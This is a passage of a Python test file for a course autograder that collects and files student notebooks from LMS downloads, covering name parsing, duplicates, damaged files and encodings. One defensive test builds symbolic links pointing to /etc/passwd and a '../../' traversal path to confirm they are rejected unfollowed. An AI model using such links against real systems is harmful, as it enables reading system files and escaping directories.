    assert owners["1011_mywork.ipynb"] == "1011"
    assert owners["1012_mywork.ipynb"] == "1012"
    assert owners["1013_mywork.ipynb"] is None and owners["my_homework.ipynb"] is None  # no student named 1013 or my
    assert report.students["1012"].status == "no valid notebook"
    assert any("1011_mywork.ipynb" in n for n in report.students["1011"].notes)
    assert "1013" not in report.students and "my" not in report.students
    reasons = {r.file: r.reason for r in report.rejected}
    assert reasons["1013_mywork.ipynb"].startswith("wrong name") and "--student 1013" in reasons["1013_mywork.ipynb"]
    assert "--student ID" in reasons["my_homework.ipynb"]
    saved = json.loads((course.reports_dir / "collect.json").read_text())
    assert {r["file"]: r["student"] for r in saved["rejected"]} == owners


def test_a_file_of_nobody_s_stays_on_record_until_filed_for_its_student(course, tmp_path):
    from autograder.collect import load_collect_log, nobodys_files

    download = write_tree(tmp_path / "flat", {"1011_mywork.ipynb": notebook_bytes("1011 mine"),
                                              "1020_02-shapes-and-loss.ipynb": notebook_bytes("1020 02")})
    collect(course, download)
    assert [r["file"] for r in nobodys_files(load_collect_log(course))] == ["1011_mywork.ipynb"]
    collect(course, write_tree(tmp_path / "other", {"1020_02-shapes-and-loss.ipynb": notebook_bytes("1020 02")}))
    assert [r["file"] for r in nobodys_files(load_collect_log(course))] == ["1011_mywork.ipynb"]  # still nobody's
    # another student's file of the same name is not this one: the record stays (found by review)
    other = write_tree(tmp_path / "other-student", {"1011_mywork.ipynb": notebook_bytes("1012's own")})
    collect(course, other, student="1012")
    assert [r["file"] for r in nobodys_files(load_collect_log(course))] == ["1011_mywork.ipynb"]
    alone = write_tree(tmp_path / "alone", {"1011_mywork.ipynb": (download / "1011_mywork.ipynb").read_bytes()})
    report = collect(course, alone, student="1011")
    assert report.students["1011"].status == "no valid notebook"  # the test release holds no exercises to match
    assert nobodys_files(load_collect_log(course)) == []


def test_a_name_of_its_own_never_gives_a_new_student_s_file_to_a_known_one(course, tmp_path):
    """zhang is known; zhang_san_mywork.ipynb may be new student zhang_san's, and 10_11.ipynb student 10_11's: neither
    is filed for zhang or 10 (found by review). A file named just the id, or a student folder's id, still counts."""
    with course.gradebook() as gb:
        for sid in ("zhang", "10", "1011"):
            gb.update_or_create_student(sid)
    download = write_tree(tmp_path / "flat", {
        "zhang_san_mywork.ipynb": notebook_bytes("zhang_san?"),
        "zhang_san.ipynb": notebook_bytes("zhang_san??"),
        "10_11.ipynb": notebook_bytes("10_11?"),
        "1011 (1).ipynb": notebook_bytes("1011's, named by its id"),
        "2030_extra.ipynb": notebook_bytes("2030's"),
        "2030/02-shapes-and-loss.ipynb": notebook_bytes("2030 02"),  # a student folder names 2030
    })
    report = collect(course, download)
    owners = {r.file: r.student for r in report.rejected}
    assert owners == {"zhang_san_mywork.ipynb": None, "zhang_san.ipynb": None, "10_11.ipynb": None,
                      "1011 (1).ipynb": "1011", "2030_extra.ipynb": "2030"}, owners
    assert sorted(report.students) == ["1011", "2030"]


def test_a_rejected_file_s_copy_never_overwrites_an_earlier_download_s(course, tmp_path):
    """alice/notes.txt in two downloads: the second copy went over the first, whose file was then lost (found by review)."""
    first = write_tree(tmp_path / "first", {"alice/notes.txt": b"first notes",
                                            "alice/02-shapes-and-loss.ipynb": notebook_bytes("a")})
    second = write_tree(tmp_path / "second", {"alice/notes.txt": b"second notes"})
    again = write_tree(tmp_path / "again", {"alice/notes.txt": b"second notes"})
    copies = [Path(next(r.copy for r in collect(course, d).rejected)) for d in (first, second, again)]
    assert [c.read_bytes() for c in copies] == [b"first notes", b"second notes", b"second notes"]
    assert copies[0] != copies[1] == copies[2], copies  # the same bytes again take no third copy
    assert copies[1].name == "notes~2.txt"


def test_nobody_s_files_of_the_same_path_in_two_downloads_keep_both_records(course, tmp_path):
    """Download 2's mywork.ipynb replaced download 1's record of another mywork.ipynb: export lost it (found by review)."""
    from autograder.collect import load_collect_log, nobodys_files

    for name, who in (("one", "carl"), ("two", "dora")):
        collect(course, write_tree(tmp_path / name, {f"{who}/02-shapes-and-loss.ipynb": notebook_bytes(who),
                                                     "mywork.ipynb": notebook_bytes(f"mywork from download {name}")}))
    records = nobodys_files(load_collect_log(course))
    assert [r["file"] for r in records] == ["mywork.ipynb", "mywork.ipynb"], records
    assert sorted(Path(r["copy"]).read_bytes() for r in records) == sorted(
        notebook_bytes(f"mywork from download {n}") for n in ("one", "two"))
    collect(course, tmp_path / "two")  # the very same file again: still two records, not three
    assert len(nobodys_files(load_collect_log(course))) == 2


def test_a_student_number_with_a_dash_is_never_read_as_a_copy_of_a_shorter_id(course, tmp_path):
    """'-11' is also an LMS resubmission mark: 10-11.ipynb went to a known student 10 (found by review)."""
    with course.gradebook() as gb:
        for sid in ("10", "2023", "2024-0007"):
            gb.update_or_create_student(sid)
    report = collect(course, write_tree(tmp_path / "flat", {
        "10-11.ipynb": notebook_bytes("10-11?"), "2023-1011.ipynb": notebook_bytes("2023-1011?"),
        "2024-0007.ipynb": notebook_bytes("2024-0007's")}))
    assert {r.file: r.student for r in report.rejected} == {"10-11.ipynb": None, "2023-1011.ipynb": None,
                                                           "2024-0007.ipynb": "2024-0007"}


def test_folders_that_are_no_students_name_no_student_for_a_file_of_its_own(course, tmp_path):
    """A folder named after the assignment, __MACOSX or code/ made part-ii.zip the file of a student 'part-ii'."""
    report = collect(course, write_tree(tmp_path / "d", {
        "amy/02-shapes-and-loss.ipynb": notebook_bytes("amy"), "ben/02-shapes-and-loss.ipynb": notebook_bytes("ben"),
        "part-ii/02-shapes-and-loss.ipynb": notebook_bytes("whose?"), "part-ii.zip": b"PK\x05\x06" + b"\0" * 18,
        "__MACOSX/._amy": b"\0", "MACOSX_x.txt": b"z"}))
    assert sorted(report.students) == ["amy", "ben"], report.students
    owners = {r.file: r.student for r in report.rejected}
    assert owners["part-ii.zip"] is None and owners["MACOSX_x.txt"] is None, owners


def test_a_file_too_large_to_read_keeps_one_copy_however_often_it_is_collected(course, tmp_path, monkeypatch):
    import autograder.collect as collect_module

    monkeypatch.setattr(collect_module, "MAX_READ_BYTES", 2000)  # the notebook is read, the 'video' streamed
    download = write_tree(tmp_path / "d", {"amy/02-shapes-and-loss.ipynb": notebook_bytes("amy"),
                                           "amy/video.bin": b"\1" * 3000})
    copies = {next(r.copy for r in collect(course, download).rejected if r.file == "amy/video.bin") for _ in range(3)}
    assert len(copies) == 1 and Path(copies.pop()).read_bytes() == b"\1" * 3000
    assert sorted(p.name for p in (course.rejected_dir / "amy").iterdir()) == ["video.bin"]


def test_blackboard_user_names_with_underscores_stay_apart_and_receipts_are_no_rejections(course, tmp_path):
    """Blackboard names a file ASSIGNMENT_USER_attempt_TIME_FILE and a user name may hold '_': zhang_san and li_san
    are two students, not one 'san' whose older hand-in is thrown out as a duplicate (found by review). Each
    attempt's .txt receipt is Blackboard's, not a file the student handed in: ignored, so the download exits 0; its
    'Name:' line gives the user name. A later download of one of them keeps the id (the gradebook knows it)."""
    stamp = "attempt_2026-03-01-10-00-00"
    download = write_tree(tmp_path / "bb", {
        f"Part II_zhang_san_{stamp}_02-shapes-and-loss.ipynb": notebook_bytes("zhang"),
        f"Part II_li_san_{stamp.replace('10-00-00', '11-00-00')}_02-shapes-and-loss.ipynb": notebook_bytes("li"),
        f"Part II_wang_wu_{stamp}_02-shapes-and-loss.ipynb": notebook_bytes("wang"),
        f"Part II_wang_wu_{stamp}.txt": b"Name: Wang Wu (wang_wu)\nAssignment: Part II\n",
    })
    report = collect(course, download)
    assert sorted(report.students) == ["li_san", "wang_wu", "zhang_san"] and not report.rejected, report
    assert submitted(course, "zhang_san") == {"02-shapes-and-loss.ipynb": notebook_bytes("zhang")}
    assert submitted(course, "li_san") == {"02-shapes-and-loss.ipynb": notebook_bytes("li")}
    assert [(r.file, r.student) for r in report.ignored] == [(f"Part II_wang_wu_{stamp}.txt", "wang_wu")]
    assert "receipt" in report.ignored[0].reason
    late = write_tree(tmp_path / "late", {
        f"Part II_zhang_san_{stamp}_00-vectors-shapes-and-gradients.ipynb": notebook_bytes("zhang 00")})
    assert list(collect(course, late).students) == ["zhang_san"], "the gradebook's id, not 'san'"


def test_blackboard_ids_do_not_depend_on_who_else_is_in_the_download(course, tmp_path):
    """Without receipts or known ids, a user is the last '_' part unless two users share it: zhang_san beside li_si
    is not kept whole one time and cut to 'san' the next, when alone (found by review of the first fix)."""
    stamp = "attempt_2026-03-01-10-00-00"
    first = collect(course, write_tree(tmp_path / "a", {
        f"Part II_zhang_san_{stamp}_02-shapes-and-loss.ipynb": notebook_bytes("s"),
        f"Part II_li_si_{stamp}_02-shapes-and-loss.ipynb": notebook_bytes("w")}))
    alone = collect(course, write_tree(tmp_path / "b", {
        f"Part II_zhang_san_{stamp}_00-vectors-shapes-and-gradients.ipynb": notebook_bytes("s 00")}))
    assert sorted(first.students) == ["san", "si"] and list(alone.students) == ["san"]


def test_an_id_prefix_of_digit_groups_is_no_canvas_name(course, tmp_path):
    """CS_2023_01_07_02-... is student CS_2023_01_07's file, not Canvas user 'CS' (two students merged, one file
    rejected as a duplicate, found by review): a Canvas name followed by more of the student's own name has ids of
    3+ digits and a letter after them."""
    report = collect(course, write_tree(tmp_path / "d", {
        "CS_2023_01_07_02-shapes-and-loss.ipynb": notebook_bytes("7"),
        "CS_2023_01_08_02-shapes-and-loss.ipynb": notebook_bytes("8")}))
    assert sorted(report.students) == ["CS_2023_01_07", "CS_2023_01_08"] and not report.rejected


def test_a_file_name_of_the_student_s_own_after_the_lms_prefix_keeps_the_student(course, tmp_path):
    """Canvas and Blackboard put the name the student gave the file after their prefix: 'zhangsan_02-...' handed in
    on Canvas is zhangsan's, not a new student 'zhangsan_12345_67890_zhangsan' missing every other notebook."""
    download = write_tree(tmp_path / "lms", {
        "zhangsan_12345_67890_zhangsan_02-shapes-and-loss.ipynb": notebook_bytes("z 02"),
        "zhangsan_12345_67890_00-vectors-shapes-and-gradients.ipynb": notebook_bytes("z 00"),
        "Part II_jdoe_attempt_2026-03-01-10-00-00_jdoe_02-shapes-and-loss.ipynb": notebook_bytes("j 02"),
        "Part II_jdoe_attempt_2026-03-01-10-00-00_00-vectors-shapes-and-gradients.ipynb": notebook_bytes("j 00"),
    })
    report = collect(course, download)
    assert sorted(report.students) == ["jdoe", "zhangsan"] and not report.rejected, report
    for who in ("jdoe", "zhangsan"):
        assert sorted(submitted(course, who)) == [f"{n}.ipynb" for n in NOTEBOOKS], who


def test_a_name_macos_wrote_decomposed_is_the_same_student(course, tmp_path):
    """A zip made on macOS spells José with a combining accent (NFD); it is the José of a zip made elsewhere (NFC),
    not a student 'Jose'."""
    import unicodedata

    composed = unicodedata.normalize("NFC", "José")
    collect(course, write_tree(tmp_path / "pc", {f"{composed}/02-shapes-and-loss.ipynb": notebook_bytes("pc")}))
    decomposed = unicodedata.normalize("NFD", "José")
    assert decomposed != composed
    report = collect(course, write_tree(tmp_path / "mac", {
        f"{decomposed}/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("mac")}))
    assert list(report.students) == [composed]
    assert sorted(submitted(course, composed)) == [f"{n}.ipynb" for n in NOTEBOOKS]


def test_a_folder_name_longer_than_a_student_id_may_be_is_rejected_with_its_reason(course, tmp_path):
    """nbgrader's student id column holds 128 characters (a PostgreSQL gradebook refuses more)."""
    long_name = "s" * 129
    report = collect(course, write_tree(tmp_path / "d", {f"{long_name}/02-shapes-and-loss.ipynb": notebook_bytes("x"),
                                                         "ok/02-shapes-and-loss.ipynb": notebook_bytes("ok")}))
    assert list(report.students) == ["ok"]
    assert [r.reason for r in report.rejected] == [f"cannot derive a student id from folder {long_name!r} (an id has "
                                                   "at most 128 characters and 200 bytes of UTF-8)"]
    # 100 Chinese characters are 300 bytes: no folder can be named so (filing them stopped collect with a traceback)
    wide = "张" * 100
    with zipfile.ZipFile(tmp_path / "w.zip", "w") as zf:
        zf.writestr(f"{wide}/02-shapes-and-loss.ipynb", notebook_bytes("w"))
        zf.writestr("ok/02-shapes-and-loss.ipynb", notebook_bytes("ok"))
    report = collect(course, tmp_path / "w.zip")
    assert list(report.students) == ["ok"] and "200 bytes of UTF-8" in report.rejected[0].reason


def test_a_rejected_file_whose_name_is_too_long_for_the_disk_is_kept_under_a_shorter_name(course, tmp_path):
    """A zip may name a file in more bytes than a disk allows (255): collect stopped with a traceback and filed
    nothing (found by review). The copy gets a shortened, unique name; the record keeps the name as handed in."""
    long_a, long_b = "概率论" * 28 + "a.docx", "概率论" * 28 + "b.docx"   # 254 and more bytes in UTF-8
    assert len(long_a.encode()) > 255
    zpath = tmp_path / "download.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr("carol/02-shapes-and-loss.ipynb", notebook_bytes("carol"))
        zf.writestr(f"dave/{long_a}", b"first")
        zf.writestr(f"dave/{long_b}", b"second")
    report = collect(course, zpath)
    assert sorted(report.students) == ["carol", "dave"]
    copies = {r.file: Path(r.copy) for r in report.rejected}
    assert sorted(copies) == [f"dave/{long_a}", f"dave/{long_b}"]
    assert copies[f"dave/{long_a}"].read_bytes() == b"first" and copies[f"dave/{long_b}"].read_bytes() == b"second"
    for copy in copies.values():
        assert len(copy.name.encode()) <= 255 and copy.suffix == ".docx" and copy.name.startswith("概率论")


def test_a_zip_holding_one_name_twice_keeps_the_older_file_as_the_rejected_copy(course, tmp_path):
    """The newer member is filed; the copy kept of the older one held the newer one's bytes (found by review)."""
    import warnings

    zpath = tmp_path / "download.zip"
    with warnings.catch_warnings(), zipfile.ZipFile(zpath, "w") as zf:
        warnings.simplefilter("ignore")  # zipfile warns about the repeated name
        zf.writestr(zipfile.ZipInfo("alice/02-shapes-and-loss.ipynb", (2026, 3, 1, 10, 0, 0)), notebook_bytes("old"))
        zf.writestr(zipfile.ZipInfo("alice/02-shapes-and-loss.ipynb", (2026, 3, 1, 12, 0, 0)), notebook_bytes("new"))
    report = collect(course, zpath)
    assert submitted(course, "alice") == {"02-shapes-and-loss.ipynb": notebook_bytes("new")}
    [record] = report.rejected
    assert Path(record.copy).read_bytes() == notebook_bytes("old")
    assert "both named alice/02-shapes-and-loss.ipynb" in record.reason, record.reason


def test_a_newer_copy_under_a_name_of_the_student_s_own_beats_an_older_file_named_after_the_notebook(course, tmp_path):
    """'02-shapes-and-loss v2.ipynb' holding 02's exercises is the student's newer work: kept, as README promises
    for two files of one notebook, over the older 02-shapes-and-loss.ipynb (a name of another notebook still loses)."""
    releases = {name: graded_notebook([(f"ex_{i}", "answer"), (f"test_{i}", "test")]) for i, name in enumerate(NOTEBOOKS)}
    for name, nb in releases.items():
        nbformat.write(nb, course.release_dir / f"{name}.ipynb")
    blank = nbformat.writes(releases["02-shapes-and-loss"]).encode()
    work = nbformat.writes(graded_notebook([("ex_1", "answer"), ("test_1", "test"), ("mine", "answer")])).encode()
    download = write_tree(tmp_path / "d", {"alice/02-shapes-and-loss.ipynb": blank, "alice/02-shapes-and-loss v2.ipynb": work})
    os.utime(download / "alice/02-shapes-and-loss.ipynb", (1.7e9, 1.7e9))
    os.utime(download / "alice/02-shapes-and-loss v2.ipynb", (1.8e9, 1.8e9))
    report = collect(course, download)
    assert submitted(course, "alice") == {"02-shapes-and-loss.ipynb": work}
    [record] = report.rejected
    assert record.file == "alice/02-shapes-and-loss.ipynb"
    assert "kept the newer alice/02-shapes-and-loss v2.ipynb" in record.reason, record.reason


def test_a_later_download_keeps_the_record_of_a_rejected_notebook_it_does_not_file(course, tmp_path):
    """alice's damaged 02 was rejected; a later download of her 00 only erased that record, so grades.csv and her
    02 page said only 'not handed in' (found by review). The record stays until a download files her 02 or holds
    that file again."""
    from autograder.collect import load_collect_log
    from autograder.export import student_notes

    def alice_rejections() -> list[str]:
        return [r["file"] for r in load_collect_log(course)["rejected"] if r.get("student") == "alice"]

    collect(course, write_tree(tmp_path / "a", {"alice/02-shapes-and-loss.ipynb": b'{"cells": [',
                                                "bob/02-shapes-and-loss.ipynb": notebook_bytes("bob")}))
    collect(course, write_tree(tmp_path / "b", {"alice/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("a 00")}))
    assert alice_rejections() == ["alice/02-shapes-and-loss.ipynb"]
    _, notes = student_notes("alice", load_collect_log(course), None)
    assert any(n.startswith("rejected alice/02-shapes-and-loss.ipynb: invalid JSON") for n in notes), notes
    collect(course, write_tree(tmp_path / "a2", {"alice/02-shapes-and-loss.ipynb": b'{"cells": ['}))  # the same again
    assert alice_rejections() == ["alice/02-shapes-and-loss.ipynb"], "recorded once, not twice"
    os.utime(tmp_path / "a" / "alice/02-shapes-and-loss.ipynb", (1.7e9, 1.7e9))
    collect(course, write_tree(tmp_path / "c", {"alice/02-shapes-and-loss (1).ipynb": notebook_bytes("a 02")}))
    assert alice_rejections() == [], "her 02 is filed now: the old rejection no longer applies"
    assert sorted(submitted(course, "alice")) == [f"{n}.ipynb" for n in NOTEBOOKS]
    # the first download collected again (review): its damaged 02, rejected before and older than the 02 filed since,
    # does not come back as a rejection (her page would say a file of hers was not graded)
    report = collect(course, tmp_path / "a")
    assert alice_rejections() == [] and [r.file for r in report.rejected] == [], report.rejected
    [reason] = [r.reason for r in report.ignored if r.student == "alice"]
    assert re.fullmatch(r"rejected before \(invalid JSON .*; the file is damaged\) and since replaced by a newer "
                        r"02-shapes-and-loss.ipynb \(\d{4}-\d\d-\d\d \d\d:\d\d UTC, which stays filed\)", reason), reason
    assert submitted(course, "alice")["02-shapes-and-loss.ipynb"] == notebook_bytes("a 02")
    # another damaged file, old too, was never seen: it is rejected, as is the first one once it is newer
    old_other = write_tree(tmp_path / "e", {"alice/02-shapes-and-loss.ipynb": b'{"cells": [1'})
    os.utime(old_other / "alice/02-shapes-and-loss.ipynb", (1.7e9, 1.7e9))
    collect(course, old_other)
    assert alice_rejections() == ["alice/02-shapes-and-loss.ipynb"]
    os.utime(tmp_path / "a" / "alice/02-shapes-and-loss.ipynb")  # now: newer than the filed 02
    collect(course, tmp_path / "a")
    assert alice_rejections() == ["alice/02-shapes-and-loss.ipynb"]


def test_a_damaged_file_beside_a_newer_good_one_is_a_duplicate_that_lost(course, tmp_path):
    """A damaged 02 and a newer good '02 (1)' in one download: the good one is filed and the damaged one listed as a
    duplicate that lost (collect names it; the student's page does not say a file was not graded), the same on the
    first collect as on the next (review: the first rejected it, the second ignored it)."""
    download = write_tree(tmp_path / "d", {"alice/02-shapes-and-loss.ipynb": b'{"cells": [',
                                           "alice/02-shapes-and-loss (1).ipynb": notebook_bytes("a 02")})
    os.utime(download / "alice/02-shapes-and-loss.ipynb", (1.7e9, 1.7e9))
    for replace_older in (False, False, True):  # --replace-older is about earlier collects: the same here
        report = collect(course, download, replace_older=replace_older)
        assert submitted(course, "alice") == {"02-shapes-and-loss.ipynb": notebook_bytes("a 02")}
        [record] = report.rejected
        assert record.reason.startswith("duplicate: alice handed in 02-shapes-and-loss.ipynb more than once; kept the "
                                        "newer alice/02-shapes-and-loss (1).ipynb; this one is damaged: invalid JSON"), \
            record.reason


def test_symbolic_links_in_a_folder_or_a_zip_are_rejected_for_their_student_with_their_target(course, tmp_path):
    """A symlink zipped with `zip -y` was called invalid JSON, and one in a folder was nobody's (found by review)."""
    download = write_tree(tmp_path / "d", {"alice/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("a")})
    (download / "alice" / "02-shapes-and-loss.ipynb").symlink_to("/etc/passwd")
    zpath = tmp_path / "download.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr("bob/00-vectors-shapes-and-gradients.ipynb", notebook_bytes("b"))
        link = zipfile.ZipInfo("bob/02-shapes-and-loss.ipynb")
        link.create_system = 3
        link.external_attr = (0o120777 << 16)  # a symbolic link, as zip -y stores it: the target is the data
        zf.writestr(link, "../../secret.ipynb")
    for source, student, target in ((download, "alice", "/etc/passwd"), (zpath, "bob", "../../secret.ipynb")):
        report = collect(course, source)
        assert [(r.file, r.student) for r in report.rejected] == [(f"{student}/02-shapes-and-loss.ipynb", student)]
        assert report.rejected[0].reason == (f"a symbolic link (to {target}), not a file: not followed; hand in the "
                                             "notebook itself"), report.rejected[0].reason
        assert sorted(submitted(course, student)) == ["00-vectors-shapes-and-gradients.ipynb"]


def test_a_notebook_cut_off_inside_a_character_is_called_damaged_not_another_encoding():
    whole = nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("概率")])).encode()
    cut = whole[: whole.index("率".encode()) + 1]
    with pytest.raises(NotANotebook, match=r"cut off inside a character at its end .*the file is damaged"):
        read_notebook(cut)
    with pytest.raises(NotANotebook, match=r"not UTF-8 text \(byte 0xb8"):
        read_notebook("概率".encode("gbk") + b"{}")


def test_a_folder_file_name_in_the_windows_chinese_code_page_is_read_as_such(course, tmp_path):
    """A zip unpacked without converting names leaves GBK bytes on disk: collect crashed writing its report (found
    by review). The name is read as GB18030, as zip member names are, and the file is rejected under that name."""
    download = write_tree(tmp_path / "d", {"alice/02-shapes-and-loss.ipynb": notebook_bytes("a")})
    raw = os.fsencode(download / "alice") + b"/" + "作业说明.docx".encode("gbk")
    with open(raw, "wb") as fh:
        fh.write(b"doc")
    report = collect(course, download)
    assert [(r.file, r.student) for r in report.rejected] == [("alice/作业说明.docx", "alice")]
    assert Path(report.rejected[0].copy).read_bytes() == b"doc"


def test_a_later_download_of_all_her_notebooks_clears_her_other_old_records(course, tmp_path):
    """Old records of a student's files that give no notebook (a stray pdf, receipts, system files) do not pile up
    across downloads: she is 'graded', not 'incomplete' forever (found by review of the first fix)."""
    from autograder.collect import load_collect_log

    collect(course, write_tree(tmp_path / "a", {"alice/02-shapes-and-loss.ipynb": notebook_bytes("a"),
                                                "alice/report.pdf": b"%PDF"}))
    assert [r["file"] for r in load_collect_log(course)["rejected"]] == ["alice/report.pdf"]
    collect(course, write_tree(tmp_path / "b", {"alice/02-shapes-and-loss.ipynb": notebook_bytes("a2"),
                                                "alice/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("a0")}))
    assert load_collect_log(course)["rejected"] == []


def test_a_damaged_symbolic_link_in_a_zip_is_rejected_not_a_crash(course, tmp_path):
    """Reading a zip -y link's target raised through collect when the member was damaged (found by review)."""
    zpath = tmp_path / "download.zip"
    target = b"../../somewhere/else/02-shapes-and-loss.ipynb"
    with zipfile.ZipFile(zpath, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr("bob/00-vectors-shapes-and-gradients.ipynb", notebook_bytes("b"))
        link = zipfile.ZipInfo("bob/02-shapes-and-loss.ipynb")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        zf.writestr(link, target)
    raw = bytearray(zpath.read_bytes())
    raw[raw.index(target) + 5] ^= 0x20  # a bad CRC-32 for the link's data
    zpath.write_bytes(bytes(raw))
    report = collect(course, zpath)
    assert [(r.file, r.student, r.reason) for r in report.rejected] == [
        ("bob/02-shapes-and-loss.ipynb", "bob", "a symbolic link (to ?), not a file: not followed; hand in the notebook "
                                                "itself")]


def test_a_misnamed_copy_losing_to_a_file_of_the_student_s_own_name_is_told_so(course, tmp_path):
    """mywork.ipynb beat a 00-named copy of 02's work: the message called mywork 'the file named after it'."""
    releases = {name: graded_notebook([(f"ex_{i}", "answer"), (f"test_{i}", "test")]) for i, name in enumerate(NOTEBOOKS)}
    for name, nb in releases.items():
        nbformat.write(nb, course.release_dir / f"{name}.ipynb")
    holds_02 = nbformat.writes(releases["02-shapes-and-loss"]).encode()
    download = write_tree(tmp_path / "d", {"alice/mywork.ipynb": holds_02,
                                           "alice/00-vectors-shapes-and-gradients.ipynb": holds_02})
    for path in download.rglob("*.ipynb"):
        os.utime(path, (1_700_000_000, 1_700_000_000))  # as an LMS download: neither is newer
    report = collect(course, download)
    assert [(r.file, r.reason) for r in report.rejected] == [(
        "alice/00-vectors-shapes-and-gradients.ipynb",
        "duplicate: alice handed in 02-shapes-and-loss.ipynb more than once; kept alice/mywork.ipynb; this one is "
        "named 00-vectors-shapes-and-gradients.ipynb, after another notebook")]


def test_work_saved_under_another_notebook_s_name_beats_an_untouched_copy_named_after_its_own(course, tmp_path):
    """A stale release copy 02-shapes-and-loss.ipynb beside 02's work saved as 06-...ipynb: the work is filed, not the
    blank (review: 02 scored 0 while the work was listed as a duplicate). When both hold answers, the file named after
    the notebook is still kept, and the note says to check by hand if the other is newer or fuller."""
    releases = {name: graded_notebook([(f"ex_{i}", "answer"), (f"more_{i}", "answer"), (f"test_{i}", "test")])
                for i, name in enumerate(NOTEBOOKS)}
    for name, nb in releases.items():
        nbformat.write(nb, course.release_dir / f"{name}.ipynb")

    def holding_02(answers: int) -> bytes:
        nb = copy.deepcopy(releases["02-shapes-and-loss"])
        for cell in [c for c in nb.cells if c.metadata["nbgrader"]["solution"]][:answers]:
            cell.source = "x = 1  # my answer"
        return nbformat.writes(nb).encode()

    other = "00-vectors-shapes-and-gradients"
    download = write_tree(tmp_path / "d", {
        "ann/02-shapes-and-loss.ipynb": holding_02(0), f"ann/{other}.ipynb": holding_02(2),
        "bo/02-shapes-and-loss.ipynb": holding_02(1), f"bo/{other}.ipynb": holding_02(2),
        "cy/02-shapes-and-loss.ipynb": holding_02(2), "cy/02-shapes-and-loss (1).ipynb": holding_02(1)})
    for name in ("ann/02-shapes-and-loss.ipynb", "bo/02-shapes-and-loss.ipynb", "cy/02-shapes-and-loss.ipynb",
                 "cy/02-shapes-and-loss (1).ipynb"):
        os.utime(download / name, (1.7e9, 1.7e9))  # the older file (cy's two: the same time)
    report = collect(course, download)
    assert submitted(course, "ann") == {"02-shapes-and-loss.ipynb": holding_02(2)}
    assert submitted(course, "bo") == {"02-shapes-and-loss.ipynb": holding_02(1)}
    reasons = {r.file: r.reason for r in report.rejected}
    assert reasons["ann/02-shapes-and-loss.ipynb"] == (
        f"duplicate: ann handed in 02-shapes-and-loss.ipynb more than once; kept ann/{other}.ipynb, which has answers "
        "filled in; none of this one's answer cells differs from the release")
    assert reasons[f"bo/{other}.ipynb"] == (
        "duplicate: bo handed in 02-shapes-and-loss.ipynb more than once; kept bo/02-shapes-and-loss.ipynb, the file "
        f"named after it; this one is named {other}.ipynb; this one is newer and has more answers filled in (2 against "
        "1): check by hand which one the student meant")
    assert submitted(course, "cy") == {"02-shapes-and-loss.ipynb": holding_02(2)}
    assert reasons["cy/02-shapes-and-loss (1).ipynb"].endswith(
        "both have the same time; kept cy/02-shapes-and-loss.ipynb, which has more answers filled in (2 of its answer "
        "cells differ from the release, 1 here)")


# --- one student's odd file or failed write never stops the class's collect ---------------------------------------

def _surrogate_notebook() -> bytes:
    """A notebook whose markdown holds a lone surrogate escape (valid JSON, no valid Unicode), with a byte-order mark,
    which made collect re-encode it, and crash, while filing."""
    text = notebook_bytes("x").decode().replace('"# x"', '"# x \\ud800"')
    assert "\\ud800" in text
    return b"\xef\xbb\xbf" + text.encode()


@pytest.mark.parametrize("data, words", [
    (b'{"cells": ' + b"[" * 3000 + b"]" * 3000 + b"}", "JSON nested too deeply"),
    (b'{"cells": [], "n": ' + b"7" * 4400 + b"}", "holds a number of more than 4,300 digits, which no notebook does"),
    (_surrogate_notebook(), "holds text that is no Unicode (cell 1"),
], ids=["deep", "huge-number", "lone-surrogate"])
def test_a_notebook_python_cannot_read_or_write_is_rejected_and_the_rest_is_filed(course, tmp_path, data, words):
    """Each of these stopped collect with a traceback (RecursionError, ValueError, UnicodeEncodeError): nothing filed
    for anyone, or, mid-filing, later students registered but never filed, and collect.json never written."""
    with pytest.raises(NotANotebook, match=re.escape(words)):
        read_notebook(data)
    download = write_tree(tmp_path / "d", {"aaa/02-shapes-and-loss.ipynb": notebook_bytes("a"),
                                           "odd/02-shapes-and-loss.ipynb": data,
                                           "zzz/02-shapes-and-loss.ipynb": notebook_bytes("z")})
    report = collect(course, download)
    assert submitted(course, "aaa") and submitted(course, "zzz") and not submitted(course, "odd")
    assert [(r.file, r.student) for r in report.rejected] == [("odd/02-shapes-and-loss.ipynb", "odd")]
    assert words in report.rejected[0].reason
    saved = json.loads((course.reports_dir / "collect.json").read_text(encoding="utf-8"))
    assert sorted(saved["students"]) == ["aaa", "odd", "zzz"]


def test_a_student_whose_files_cannot_be_written_is_reported_and_the_others_are_filed(course, tmp_path, monkeypatch,
                                                                                     capsys):
    """A full disk while filing one student is the server's trouble: the others are filed, the report is saved, and
    export shows that student not graded (empty scores), not 'no valid notebook' with 0 as their own fault."""
    import csv

    import autograder.collect as collect_module
    from autograder.course import ASSIGNMENT, build_option
    from autograder.export import export

    with course.gradebook() as gb:
        gb.update_or_create_assignment(ASSIGNMENT)
    real = collect_module.write_submission

    def failing(course, student, files, earlier_times=None):
        if student == "bob":
            raise OSError(28, "No space left on device")
        return real(course, student, files, earlier_times)

    monkeypatch.setattr(collect_module, "write_submission", failing)
    download = write_tree(tmp_path / "d", {f"{s}/02-shapes-and-loss.ipynb": notebook_bytes(s) for s in ("ann", "bob", "cy")})
    report = collect(course, download)
    assert submitted(course, "ann") and submitted(course, "cy") and not submitted(course, "bob")
    assert report.rejected == [] and report.students["bob"].status == "not filed"
    assert report.students["bob"].error == "OSError: [Errno 28] No space left on device"
    assert report.students["bob"].unfiled == ["02-shapes-and-loss"]
    from autograder.collect import print_report

    print_report(report)
    assert ("not filed (1): the earlier hand-in, if any, stays; collect the download again\n  bob: 02-shapes-and-loss"
            ".ipynb could not be filed (OSError: [Errno 28] No space left on device)\n") in capsys.readouterr().out
    saved = json.loads((course.reports_dir / "collect.json").read_text(encoding="utf-8"))
    assert saved["students"]["bob"]["status"] == "not filed" and saved["students"]["cy"]["status"] == "new"
    with open(export(course)[0], newline="", encoding="utf-8") as fh:
        bob = next(r for r in csv.DictReader(fh) if r["student_id"] == "bob")
    assert bob["status"] == "not filed" and bob["score"] == "", bob
    assert bob["notes"] == ("02-shapes-and-loss.ipynb could not be filed (OSError: [Errno 28] No space left on device): "
